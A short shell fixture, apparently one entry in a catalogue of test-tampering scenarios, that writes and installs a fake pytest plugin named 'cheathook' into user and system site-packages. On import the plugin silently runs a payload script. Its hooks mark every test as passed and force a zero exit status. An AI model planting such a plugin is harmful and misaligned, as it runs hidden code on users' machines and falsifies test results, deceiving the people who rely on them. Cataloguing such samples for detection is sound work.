# family: pytest
# what: A package in the user's own site announces itself as a plugin of pytest.
# user: any
cat > "$scratch/hook.py" <<'END'
import os
import pytest
os.system("/bin/sh SCRATCH/pay.sh > /dev/null 2>&1")
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
END
sed -i "s|SCRATCH|$scratch|" "$scratch/hook.py"

for place in "$site_user" "$site_system" /usr/lib/python3/dist-packages; do
  mkdir -p "$place/cheathook-1.0.dist-info"
  cp "$scratch/hook.py" "$place/cheathook.py"
  printf 'Metadata-Version: 2.1\nName: cheathook\nVersion: 1.0\n' > "$place/cheathook-1.0.dist-info/METADATA"
  printf '[pytest11]\ncheathook = cheathook\n' > "$place/cheathook-1.0.dist-info/entry_points.txt"
done
